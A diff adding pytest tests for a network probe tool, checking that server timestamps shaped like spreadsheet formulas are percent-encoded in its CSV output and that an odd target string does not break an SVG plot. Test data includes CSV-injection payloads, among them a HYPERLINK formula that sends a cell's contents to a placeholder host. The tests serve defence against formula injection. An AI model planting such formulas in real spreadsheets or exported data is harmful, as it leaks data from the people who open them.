@@ -110,6 +110,42 @@ def test_csv_has_a_row_for_each_probe(port: int, tmp_path: Path, ping: Ping) -> 
         }
 
 
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://h/?"&A1)', "%3DHYPERLINK%28%22http://h/%3F%22%26A1%29"),
+        ("@SUM(1)", "%40SUM%281%29"),
+        ("+1", "%2B1"),
+        ("-1", "%2D1"),
+        ("\uff1d1", "%EF%BC%9D1"),  # FULLWIDTH EQUALS SIGN
+        ("x;=1", "x%3B%3D1"),
+        (" =1", "%20%3D1"),
+        ("Mon Nov 23 08:22:38 2026", "Mon Nov 23 08:22:38 2026"),
+        ("2026-11-23T08:22:38.250000+00:00", "2026-11-23T08:22:38.250000+00:00"),
+        ("1795422158.250000", "1795422158.250000"),
+    ],
+)
+def test_no_stamp_is_a_formula_in_the_csv(text: str, cell: str, tmp_path: Path, ping: Ping) -> None:
+    def serve(client: socket.socket) -> None:
+        while data := client.recv(65536):
+            client.sendall(f"[{text}] ".encode() + data)
+
+    path = tmp_path / "probes.csv"
+    with serving(serve) as port:
+        done = ping(f"127.0.0.1:{port}", "--count", 1, "--csv", path, "--json")
+    with path.open(newline="") as file:
+        [row] = csv.DictReader(file)
+    assert row["server_time"] == cell
+    assert done.probes[0]["server_time"] == text
+
+
+def test_a_target_is_no_formula_in_a_plot(tmp_path: Path, ping: Ping) -> None:
+    path = tmp_path / "run.svg"
+    done = ping("$x^$\udcff", "--plot", path, "--nagios")
+    assert (done.status, done.err) == (2, "")
+    assert ElementTree.parse(path).getroot() is not None
+
+
 @pytest.mark.parametrize("suffix", ["svg", "png"])
 def test_a_plot_is_drawn(suffix: str, port: int, tmp_path: Path, ping: Ping) -> None:
     path = tmp_path / f"run.{suffix}"
